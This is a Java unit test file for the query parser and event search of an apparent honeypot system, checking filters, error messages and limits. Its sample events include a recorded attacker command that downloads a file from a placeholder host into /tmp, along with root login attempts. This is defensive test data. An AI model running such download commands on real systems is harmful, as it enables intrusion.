package decnet.db;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.EventId;
import decnet.core.Peer;
import decnet.db.fixture.TestDatabase;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class EventQueryTest {
    private static final Instant NOON = Instant.parse("2026-11-20T12:00:00Z");
    private static final String HASH = "0123456789abcdef".repeat(4);
    private static final List<StoredEvent> EVENTS = List.of(
            stored(1, "ssh", "connect", "10.1.2.3", 22, Map.of()),
            stored(2, "ssh", "login_attempt", "10.1.2.3", 22, Map.of("principal", "root", "secret", "wget")),
            stored(3, "telnet", "login_attempt", "10.200.0.1", 23, Map.of("username", "root", "method", "password")),
            stored(
                    4,
                    "ssh",
                    "command",
                    "203.0.113.9",
                    22,
                    Map.of("command", "cd /tmp; WGET http://203.0.113.7/x", "user", "root")),
            stored(
                    5,
                    "http",
                    "request",
                    "2001:db8::7",
                    8080,
                    Map.of("path", "/a%b_c", "agent", "say \"hi\\x00\"\tnow")),
            stored(6, "ftp", "file_upload", "203.0.113.9", 21, Map.of("sha256", HASH, "name", "wget_http")),
            withoutPeers(7));

    private static StoredEvent stored(
            long seq, String service, String type, String source, int port, Map<String, String> fields) {
        return new StoredEvent(
                seq,
                Event.of(NOON.minusSeconds(3600 * (8 - seq)), new DeckyName("web-0" + seq), service, type, fields)
                        .withConnection("s" + seq, Peer.of(source, 40_000), Peer.of("127.0.0.1", port))
                        .withId(new EventId(1, 0, seq))
                        .withRecording(NOON.plusSeconds(seq), seq % 2 == 0 ? "here" : "there"));
    }

    private static StoredEvent withoutPeers(long seq) {
        return new StoredEvent(
                seq,
                Event.of(NOON, new DeckyName("db-01"), "redis", "limit_reached", Map.of())
                        .withId(new EventId(1, 0, seq)));
    }

    @Test
    void aQueryFindsWhatAgreesWithEveryTerm() {
        Map<String, List<Long>> expected = Map.ofEntries(
                Map.entry("", List.of(7L, 6L, 5L, 4L, 3L, 2L, 1L)),
                Map.entry("service:ssh,telnet user:root -type:connect", List.of(4L, 3L, 2L)),
                Map.entry("service:ssh ip:10.0.0.0/8 user:root -type:connect", List.of(2L)),
                Map.entry("\"wget http\"", List.of(4L)),
                Map.entry("wget", List.of(6L, 4L, 2L)),
                Map.entry("\"wget_http\"", List.of(6L)),
                Map.entry("-wget ip:0.0.0.0/0", List.of(3L, 1L)),
                Map.entry("command", List.of()),
                Map.entry("ip:2001:db8::/32,203.0.113.9", List.of(6L, 5L, 4L)),
                Map.entry("-ip:203.0.113.9 port:8080,21", List.of(5L)),
                Map.entry("-ip:10.0.0.0/8", List.of(7L, 6L, 5L, 4L)),
                Map.entry("%b_", List.of(5L)),
                Map.entry("\"say \\\"hi\\\\x00\\\"\tnow\"", List.of(5L)),
                Map.entry("field:method=password", List.of(3L)),
                Map.entry("-field:method=password user:root", List.of(4L, 2L)),
                Map.entry("sha256:" + HASH.toUpperCase(java.util.Locale.ROOT), List.of(6L)),
                Map.entry("sensor:here", List.of(6L, 4L, 2L)),
                Map.entry("session:s4", List.of(4L)),
                Map.entry("decky:web-01,db-01", List.of(7L, 1L)),
                Map.entry("since:3h", List.of(7L, 6L, 5L)),
                Map.entry("since:2026-11-20T07:00 until:2026-11-20T11:00+01:00", List.of(5L, 4L, 3L)),
                Map.entry("until:2026-11-20", List.of()));
        try (TestDatabase test = TestDatabase.create()) {
            test.database().inTransaction(tx -> {
                tx.partitions().ensure(List.of(java.time.LocalDate.of(2026, 11, 20)));
                tx.events().add(EVENTS);
                return true;
            });

            expected.forEach((text, seqs) -> {
                EventQuery query = EventQuery.parse(text, NOON);
                List<StoredEvent> newest =
                        test.database().read(tx -> tx.events().search(query, Long.MAX_VALUE, 10));
                List<StoredEvent> oldest =
                        test.database().read(tx -> tx.events().searchAfter(query, 0, 10));
                assertThat(newest).as(text).extracting(StoredEvent::seq).containsExactlyElementsOf(seqs);
                assertThat(oldest).as(text).extracting(StoredEvent::seq).containsExactlyElementsOf(seqs.reversed());
            });
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "servce:ssh | 0 | unknown key",
                "a http://x | 2 | in quotes",
                "service: | 8 | expected a value",
                "service:a, | 10 | expected a value",
                "a - b | 2 | expected a term",
                "\"open | 0 | does not end",
                "\"a\"b | 3 | expected a blank",
                "a\"b | 1 | a quote within a word",
                "\"\" | 0 | empty quotes",
                "ip:10.0.0.0/33 | 3 | not an address",
                "ip:10.0.0.1,localhost | 12 | not an address",
                "ip:::/129 | 3 | not an address",
                "port:65536 | 5 | not a port",
                "port:ssh | 5 | not a port",
                "sha256:abc | 7 | not a SHA-256",
                "field:method | 6 | expected field:NAME=VALUE",
                "since:yesterday | 6 | not a time",
                "since:9999999d | 6 | not a time",
                "until:2026-02-30 | 6 | not a time",
                "-since:2h | 1 | cannot be turned around"
            })
    void aMalformedQueryIsRefusedWithThePlace(String text, int position, String reason) {
        assertThatThrownBy(() -> EventQuery.parse(text, NOON))
                .isInstanceOfSatisfying(QuerySyntaxException.class, e -> assertThat(e.position())
                        .isEqualTo(position))
                .hasMessageContaining("character " + (position + 1))
                .hasMessageContaining(reason);
    }

    @Test
    void theLimitsHold() {
        assertThat(EventQuery.parse("a ".repeat(EventQuery.MAX_TERMS), NOON).terms())
                .hasSize(EventQuery.MAX_TERMS);
        assertThat(EventQuery.parse("a".repeat(EventQuery.MAX_LENGTH), NOON).terms())
                .hasSize(1);

        assertThatThrownBy(() -> EventQuery.parse("a ".repeat(EventQuery.MAX_TERMS + 1), NOON))
                .hasMessageContaining("terms");
        assertThatThrownBy(() -> EventQuery.parse("a".repeat(EventQuery.MAX_LENGTH + 1), NOON))
                .hasMessageContaining("characters");
        assertThatThrownBy(() -> EventQuery.parse("a\0", NOON)).hasMessageContaining("NUL");
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void anyTextIsReadOrRefusedAndAnyQuotedValueComesBack(long seed) {
        var random = new SplittableRandom(seed);
        String alphabet = "a:-\",= \\/.109T\u00fc\ud83d\u0001%_'()ip since user field";
        for (int i = 0; i < 2000; i++) {
            StringBuilder text = new StringBuilder();
            for (int length = random.nextInt(40); length >= 0; length--) {
                text.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            Optional<EventQuery> read = read(text.toString());
            assertThat(read.stream().flatMap(query -> query.terms().stream()).count())
                    .isLessThanOrEqualTo(EventQuery.MAX_TERMS);

            List<EventQuery.Term> one = new ArrayList<>(EventQuery.parse(EventQuery.term("user", text.toString()), NOON)
                    .terms());
            assertThat(one)
                    .containsExactly(
                            new EventQuery.Term(false, new EventQuery.Condition.User(List.of(text.toString()))));
        }
    }

    private static Optional<EventQuery> read(String text) {
        try {
            return Optional.of(EventQuery.parse(text, NOON));
        } catch (QuerySyntaxException e) {
            return Optional.empty();
        }
    }
}
